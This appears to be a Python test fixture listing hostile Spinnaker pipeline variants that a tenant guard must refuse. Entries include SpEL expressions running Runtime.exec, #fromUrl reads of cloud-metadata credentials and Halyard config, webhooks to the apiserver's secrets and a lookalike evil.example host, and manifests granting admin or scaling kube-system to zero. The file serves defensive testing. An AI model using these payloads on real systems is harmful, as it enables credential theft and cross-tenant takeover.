"""Hostile SpinnakerPipelines (issue 15 items 1, 3 and 5): each starts from a tenant's legit deploy pipeline, changes
one thing, and must be refused at exactly the listed field paths with nothing sent to Gate.

Pure data: `tests/integration/hostile/test_hostile_pipelines.py` applies them as an RBAC-restricted tenant against
the real control planes and the Gate stand-in; `tests/unit/pipelines/test_hostile_pipeline_corpus.py` runs the same
cases through the guard alone.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

#: The scheme + host the test SpinnakerCluster grants (tenancy.pipelines.allowedUrlHosts).
GRANTED_HOST = "https://hooks.example.com"
HALYARD = "http://spin-halyard.spinnaker:8064/v1/config/deployments/default"
METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
APISERVER = "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"
GATE = "http://spin-gate.spinnaker:8084/pipelines"
MONIKER = "moniker.spinnaker.io/application"


@dataclass(frozen=True)
class Ctx:
    """The attacking tenant's own names, and the victim's it tries to reach."""

    tenant: str
    app: str
    account: str
    namespace: str
    victim_app: str
    victim_account: str
    victim_namespace: str


Mutation = Callable[[Ctx, dict[str, Any]], None]


@dataclass(frozen=True)
class HostilePipeline:
    name: str
    what: str
    mutate: Mutation
    paths: tuple[str, ...]
    reason: str = "PipelineRefused"
    """The reason of the reconcile's refusal (the Synced condition's)."""


def _stage(spec: dict[str, Any]) -> dict[str, Any]:
    stage: dict[str, Any] = spec["pipeline"]["stages"][0]
    return stage


def _manifest(spec: dict[str, Any]) -> dict[str, Any]:
    manifest: dict[str, Any] = _stage(spec)["manifests"][0]
    return manifest


def _add(spec: dict[str, Any], stage: dict[str, Any]) -> None:
    spec["pipeline"]["stages"].append({"refId": "2", "requisiteStageRefIds": ["1"], "name": "extra", **stage})


def _embedded(manifest: dict[str, Any]) -> dict[str, Any]:
    return {
        "type": "embedded/base64",
        "name": "m",
        "reference": base64.b64encode(json.dumps(manifest).encode()).decode(),
    }


def key(where: Callable[[dict[str, Any]], dict[str, Any]], name: str, value: Callable[[Ctx], Any]) -> Mutation:
    def mutate(c: Ctx, spec: dict[str, Any]) -> None:
        where(spec)[name] = value(c)

    return mutate


def add_stage(stage: Callable[[Ctx], dict[str, Any]]) -> Mutation:
    return lambda c, spec: _add(spec, stage(c))


def webhook(**fields: Any) -> Mutation:
    return add_stage(lambda c: {"type": "webhook", "method": "POST", **fields})


def _manifest_stage(kind: str, **fields: Any) -> Mutation:
    return add_stage(lambda c: {"type": kind, "account": c.account, "location": c.namespace, **fields})


def _set_image(c: Ctx, spec: dict[str, Any]) -> None:
    _manifest(spec)["spec"]["template"]["spec"]["containers"][0]["image"] = "${trigger.parameters.image}"


def _parameter_from_url(c: Ctx, spec: dict[str, Any]) -> None:
    spec["pipeline"]["parameterConfig"] = [{"name": "ns", "default": "${#jsonFromUrl('" + HALYARD + "')['x']}"}]


def _notification(kind: str, address: str, text: str | None = None) -> Mutation:
    def mutate(c: Ctx, spec: dict[str, Any]) -> None:
        entry: dict[str, Any] = {"type": kind, "address": address, "level": "pipeline", "when": ["pipeline.failed"]}
        if text is not None:
            entry["message"] = {"pipeline.failed": {"text": text}}
        spec["pipeline"]["notifications"] = [entry]

    return mutate


def _http_artifact(c: Ctx, spec: dict[str, Any]) -> None:
    spec["pipeline"]["expectedArtifacts"].append(
        {
            "id": "config",
            "matchArtifact": {"type": "http/file", "name": "config"},
            "defaultArtifact": {"type": "http/file", "name": "config", "reference": METADATA},
            "useDefaultArtifact": True,
        }
    )


def _github_required(c: Ctx, spec: dict[str, Any]) -> None:
    _stage(spec)["requiredArtifacts"] = [
        {"artifact": {"type": "github/file", "artifactAccount": f"{c.tenant}-github", "reference": HALYARD}}
    ]


def _annotated(c: Ctx, spec: dict[str, Any]) -> None:
    _manifest(spec)["metadata"]["annotations"] = {MONIKER: c.victim_app}


def _extra_manifest(manifest: Callable[[Ctx], dict[str, Any]]) -> Mutation:
    return lambda c, spec: _stage(spec)["manifests"].append(manifest(c))


def _from_artifact(c: Ctx, spec: dict[str, Any]) -> None:
    stage = _stage(spec)
    stage.pop("manifests")
    stage.update(source="artifact", manifestArtifactId="image")


def _embedded_elsewhere(c: Ctx, spec: dict[str, Any]) -> None:
    stage = _stage(spec)
    manifest = stage.pop("manifests")[0]
    manifest["metadata"]["namespace"] = c.victim_namespace
    stage.update(source="artifact", manifestArtifact=_embedded(manifest))


def _json_patch_moniker(c: Ctx) -> dict[str, Any]:
    return {
        "type": "patchManifest",
        "account": c.account,
        "location": c.namespace,
        "manifestName": "deployment web",
        "options": {"mergeStrategy": "json"},
        "patchBody": [
            {"op": "add", "path": "/metadata/annotations/moniker.spinnaker.io~1application", "value": c.victim_app}
        ],
    }


S0 = "spec.pipeline.stages[0]"
S1 = "spec.pipeline.stages[1]"

CORPUS: list[HostilePipeline] = [
    # ---- item 1: expressions in keys (Orca evaluates map keys) and in values -------------------------------------
    HostilePipeline(
        "key-account",
        "a stage key ${'account'} that becomes `account`: the victim's account at run time",
        key(_stage, "${'account'}", lambda c: c.victim_account),
        (S0 + "[\"${'account'}\"]",),
    ),
    HostilePipeline(
        "key-namespace-override",
        "a stage key ${'namespaceOverride'}: deploys into the victim's namespace at run time",
        key(_stage, "${'namespaceOverride'}", lambda c: c.victim_namespace),
        (S0 + "[\"${'namespaceOverride'}\"]",),
    ),
    HostilePipeline(
        "application-of-the-victim",
        "the pipeline saved into the victim's application (a name under the victim namespace's prefix)",
        key(lambda s: s, "application", lambda c: c.victim_app),
        ("spec.application", S0 + ".moniker.app"),  # the stage still labels its deployments with its own app
        reason="ApplicationNotOwned",
    ),
    HostilePipeline(
        "key-application",
        "a pipeline stage whose ${'application'} key names the victim's application",
        add_stage(
            lambda c: {"type": "pipeline", "application": c.app, "${'application'}": c.victim_app, "pipeline": "x"}
        ),
        (S1 + "[\"${'application'}\"]",),
    ),
    HostilePipeline(
        "key-moniker-app",
        "a moniker key ${'app'}: labels the deployment as the victim's application",
        key(lambda s: _stage(s)["moniker"], "${'app'}", lambda c: c.victim_app),
        (S0 + ".moniker[\"${'app'}\"]",),
    ),
    HostilePipeline(
        "key-manifest-namespace",
        "a manifest metadata key ${'namespace'}",
        key(lambda s: _manifest(s)["metadata"], "${'namespace'}", lambda c: c.victim_namespace),
        (S0 + ".manifests[0].metadata[\"${'namespace'}\"]",),
    ),
    HostilePipeline(
        "key-trigger-account",
        "a trigger key ${'account'}",
        key(lambda s: s["pipeline"]["triggers"][0], "${'account'}", lambda c: f"{c.victim_app}-registry"),
        ("spec.pipeline.triggers[0][\"${'account'}\"]",),
    ),
    HostilePipeline(
        "key-with-skip-expression-evaluation",
        "skipExpressionEvaluation (Orca still evaluates everything but manifests) with an ${'account'} key",
        lambda c, s: _stage(s).update({"skipExpressionEvaluation": True, "${'account'}": c.victim_account}),
        (S0 + "[\"${'account'}\"]",),
    ),
    HostilePipeline(
        "value-image-not-granted",
        "an expression in a manifest field the cluster does not grant",
        _set_image,
        (S0 + ".manifests[0].spec.template.spec.containers[0].image",),
    ),
    HostilePipeline(
        "value-from-url-in-description",
        "#fromUrl in free text: Orca fetches Halyard's config when the pipeline runs",
        lambda c, s: s["pipeline"].update(description="${#fromUrl('" + HALYARD + "')}"),
        ("spec.pipeline.description",),
    ),
    HostilePipeline(
        "value-type-in-stage-name",
        "a T() type reference in a stage name",
        lambda c, s: _stage(s).update(name="${T(java.lang.Runtime).getRuntime().exec('id')}"),
        (S0 + ".name",),
    ),
    HostilePipeline(
        "value-parameter-default",
        "a parameter whose default is read from Halyard (#jsonFromUrl)",
        _parameter_from_url,
        ("spec.pipeline.parameterConfig[0].default",),
    ),
    HostilePipeline(
        "value-notification-text",
        "notification text that reads the instance metadata (#fromUrl) into a Slack message",
        _notification("slack", "team-room", "${#fromUrl('" + METADATA + "')}"),
        ('spec.pipeline.notifications[0].message["pipeline.failed"].text',),
    ),
    HostilePipeline(
        "value-artifact-reference",
        "a default artifact whose reference is an expression",
        lambda c, s: s["pipeline"]["expectedArtifacts"][0].update(
            defaultArtifact={"type": "docker/image", "reference": "${trigger.parameters.image}"}
        ),
        ("spec.pipeline.expectedArtifacts[0].defaultArtifact.reference",),
    ),
    HostilePipeline(
        "stage-enabled-from-url",
        "stageEnabled.expression (Orca wraps it in ${...} itself) reading cloud metadata",
        lambda c, s: _stage(s).update(
            stageEnabled={"type": "expression", "expression": "#jsonFromUrl('" + METADATA + "') != null"}
        ),
        (S0 + ".stageEnabled.expression",),
    ),
    HostilePipeline(
        "precondition-expression",
        "an expression precondition (evaluated without ${) that runs a process",
        add_stage(
            lambda c: {
                "type": "checkPreconditions",
                "preconditions": [
                    {
                        "type": "expression",
                        "failPipeline": True,
                        "context": {"expression": "T(java.lang.Runtime).getRuntime().exec('id') != null"},
                    }
                ],
            }
        ),
        (S1 + ".preconditions[0].context.expression",),
    ),
    HostilePipeline(
        "variable-source-expression",
        "an evaluateVariables sourceExpression, which Orca turns into ${...} on a restart",
        add_stage(
            lambda c: {
                "type": "evaluateVariables",
                "variables": [{"key": "v", "value": "x", "sourceExpression": "{#fromUrl('" + HALYARD + "')}"}],
            }
        ),
        (S1 + ".variables[0].sourceExpression",),
    ),
    # ---- item 3: making Spinnaker call internal services ---------------------------------------------------------
    HostilePipeline(
        "webhook-halyard", "a webhook stage calling Halyard's REST API", webhook(url=HALYARD), (S1 + ".url",)
    ),
    HostilePipeline(
        "webhook-metadata", "a webhook to cloud metadata", webhook(url=METADATA, method="GET"), (S1 + ".url",)
    ),
    HostilePipeline("webhook-apiserver", "a webhook to the kube-apiserver", webhook(url=APISERVER), (S1 + ".url",)),
    HostilePipeline("webhook-gate", "a webhook to Gate itself", webhook(url=GATE), (S1 + ".url",)),
    HostilePipeline(
        "webhook-userinfo",
        "a granted host as user info in front of Halyard",
        webhook(url="https://hooks.example.com@spin-halyard:8064/v1/config"),
        (S1 + ".url",),
    ),
    HostilePipeline(
        "webhook-lookalike-host",
        "a host that starts like the granted one",
        webhook(url="https://hooks.example.com.evil.example/x"),
        (S1 + ".url",),
    ),
    HostilePipeline(
        "webhook-url-expression", "a webhook URL from a parameter", webhook(url="${parameters.url}"), (S1 + ".url",)
    ),
    HostilePipeline(
        "webhook-status-from-answer",
        "a granted webhook whose status URL comes from its answer (can point anywhere)",
        webhook(url=GRANTED_HOST + "/deploy", waitForCompletion=True, statusUrlResolution="webhookResponse"),
        (S1 + ".statusUrlResolution",),
    ),
    HostilePipeline(
        "webhook-status-endpoint",
        "a granted webhook polling Halyard for its status",
        webhook(
            url=GRANTED_HOST + "/deploy",
            waitForCompletion=True,
            statusUrlResolution="getMethod",
            statusEndpoint=HALYARD,
        ),
        (S1 + ".statusEndpoint",),
    ),
    HostilePipeline(
        "preconfigured-webhook",
        "a preconfigured webhook (or plugin) stage type spinop cannot check",
        add_stage(lambda c: {"type": "halyardConfig", "parameters": {"path": "/v1/config"}}),
        (S1 + ".type",),
    ),
    HostilePipeline(
        "notification-googlechat",
        "a Google Chat notification whose address is Halyard",
        _notification("googlechat", HALYARD),
        ("spec.pipeline.notifications[0].address",),
    ),
    HostilePipeline(
        "notification-url-address",
        "a Slack notification whose address is a URL to the apiserver",
        _notification("slack", APISERVER),
        ("spec.pipeline.notifications[0].address",),
    ),
    HostilePipeline(
        "http-artifact-metadata",
        "an http/file artifact clouddriver fetches from cloud metadata",
        _http_artifact,
        (
            "spec.pipeline.expectedArtifacts[1].matchArtifact.type",
            "spec.pipeline.expectedArtifacts[1].defaultArtifact.reference",
        ),
    ),
    HostilePipeline(
        "github-artifact-halyard",
        "a github/file artifact whose reference is Halyard (fetched with the GitHub token)",
        _github_required,
        (S0 + ".requiredArtifacts[0].artifact.reference",),
    ),
    # ---- item 5: manifest stages ----------------------------------------------------------------------------------
    HostilePipeline(
        "kind-rolebinding",
        "a RoleBinding (namespaced, but not on the allowlist)",
        _extra_manifest(
            lambda c: {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "RoleBinding",
                "metadata": {"name": "x", "namespace": c.namespace},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
            }
        ),
        (S0 + ".manifests[1].kind",),
    ),
    HostilePipeline(
        "kind-spoofed-group",
        "a Deployment of a foreign API group (a cluster-scoped CRD can reuse a built-in kind name)",
        _extra_manifest(lambda c: {"apiVersion": "evil.example/v1", "kind": "Deployment", "metadata": {"name": "d"}}),
        (S0 + ".manifests[1].kind",),
    ),
    HostilePipeline(
        "moniker-annotation",
        "a moniker.spinnaker.io/application annotation naming the victim's application",
        _annotated,
        (S0 + '.manifests[0].metadata.annotations["moniker.spinnaker.io/application"]',),
    ),
    HostilePipeline(
        "patch-moniker-annotation",
        "a merge patch re-labelling a deployment into the victim's application",
        add_stage(
            lambda c: {
                "type": "patchManifest",
                "account": c.account,
                "location": c.namespace,
                "manifestName": "deployment web",
                "patchBody": {"metadata": {"annotations": {MONIKER: c.victim_app}}},
            }
        ),
        (S1 + '.patchBody.metadata.annotations["moniker.spinnaker.io/application"]',),
    ),
    HostilePipeline(
        "json-patch-moniker",
        "a JSON patch adding the victim's moniker annotation",
        add_stage(_json_patch_moniker),
        (S1 + ".patchBody[0].value",),
    ),
    HostilePipeline(
        "patch-from-artifact",
        "a patch read from an artifact at run time",
        _manifest_stage("patchManifest", manifestName="deployment web", source="artifact", manifestArtifactId="image"),
        (S1 + ".source",),
    ),
    HostilePipeline(
        "manifest-from-artifact",
        "a deployManifest whose manifest comes from an artifact at run time",
        _from_artifact,
        (S0 + ".source",),
    ),
    HostilePipeline(
        "embedded-manifest-elsewhere",
        "an inline embedded/base64 manifest into the victim's namespace",
        _embedded_elsewhere,
        (S0 + ".manifestArtifact.reference[0].metadata.namespace",),
    ),
    HostilePipeline(
        "run-job-from-github",
        "a runJobManifest whose Job comes from a GitHub file",
        add_stage(
            lambda c: {
                "type": "runJobManifest",
                "account": c.account,
                "source": "artifact",
                "manifestArtifact": {
                    "type": "github/file",
                    "artifactAccount": f"{c.tenant}-github",
                    "reference": "https://api.github.com/repos/x/y/contents/job.yaml",
                },
            }
        ),
        (S1 + ".source", S1 + ".manifestArtifact.reference"),
    ),
    HostilePipeline(
        "delete-cluster-scoped-kinds",
        "a deleteManifest by label over cluster-scoped kinds",
        _manifest_stage(
            "deleteManifest",
            mode="label",
            kinds=["clusterRoleBinding"],
            labelSelectors={"selectors": [{"key": "a", "kind": "EXISTS"}]},
        ),
        (S1 + ".kinds[0]",),
    ),
    HostilePipeline(
        "scale-namespace",
        "a scaleManifest naming a cluster-scoped object",
        _manifest_stage("scaleManifest", manifestName="namespace kube-system", replicas=0),
        (S1 + ".manifestName",),
    ),
]
